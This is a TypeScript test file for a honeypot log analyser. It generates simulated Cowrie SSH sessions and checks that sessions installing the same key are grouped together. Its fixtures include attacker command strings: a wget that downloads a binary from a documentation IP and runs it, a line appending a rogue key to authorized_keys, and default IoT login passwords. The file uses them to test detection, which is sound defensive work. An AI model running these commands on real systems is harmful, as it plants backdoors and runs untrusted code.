import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { expect, it } from "vitest"
import { evaluate } from "../../evaluate/evaluate.ts"
import { evaluationText } from "../../evaluate/evaluationText.ts"

let clock = Date.UTC(2026, 2, 1)

/** Cowrie's events of one session, from an address of its own. */
const session = (n: number, passwords: ReadonlyArray<string>, commands: ReadonlyArray<string>) => {
  const event = (eventid: string, said: object) => {
    clock += 250
    const timestamp = new Date(clock).toISOString().replace("Z", "000Z")
    const where = {
      timestamp,
      src_ip: `198.51.100.${n}`,
      session: n.toString(16).padStart(12, "0"),
    }
    return `${JSON.stringify({ eventid, ...said, ...where })}\n`
  }
  return [
    event("cowrie.session.connect", { protocol: "ssh" }),
    event("cowrie.client.kex", {
      kexAlgs: ["made"],
      keyAlgs: [],
      encCS: ["up"],
      macCS: [],
      compCS: [],
    }),
    ...passwords.map((password) => event("cowrie.login.failed", { username: "root", password })),
    ...commands.map((input) => event("cowrie.command.input", { input })),
    event("cowrie.session.closed", {}),
  ].join("")
}

const install = (name: string) =>
  `echo "ssh-rsa ${name.repeat(12)} ${name}" >> .ssh/authorized_keys`
const scripts = [
  ["uname -a; nproc", "cat /proc/cpuinfo | grep model", "crontab -l", install("AAAAfirst")],
  [
    "cd /var/run; rm -f *.arm",
    "wget http://192.0.2.1/arm",
    "chmod 777 arm; ./arm",
    install("AAAAother"),
  ],
]
const defaults = ["xc3511", "vizxv", "888888", "54321"]

it("finds the sessions that install the same key, which it was not shown", async () => {
  const directory = mkdtempSync(join(tmpdir(), "credtrail-evaluate-test-"))
  try {
    mkdirSync(join(directory, "trap"))
    const logs = Array.from({ length: 24 }, (_, n) =>
      session(n + 1, defaults, scripts[n % 2] ?? []),
    )
    writeFileSync(join(directory, "trap", "cowrie.json"), logs.join(""))
    const result = await evaluate(directory)
    expect(result).toMatchObject({
      sessions: 24,
      vectors: { ssh_kex: 24, cmd_ngram: 24, session_timing: 24, cred_list: 0 },
      labels: [12, 12],
      defaults: { sessions: 24, sharing: (24 * 23) / 2, merged: 0 },
    })
    for (const kind of ["cmd_ngram", "fused"]) {
      expect(result.scripted[kind]).toMatchObject({ asked: 24, precision: 1, recall: 1 })
      expect(result.scripted[kind]?.baseRate).toBeCloseTo(11 / 23, 6)
    }
    // All have the same client: it tells nobody apart.
    expect(result.scripted.ssh_kex?.recall).toBeLessThan(0.7)
    expect(evaluationText(result)).toMatch(/fused +24 +0\.478 +1\.000 +1\.000/)
  } finally {
    rmSync(directory, { recursive: true, force: true })
  }
}, 60_000)
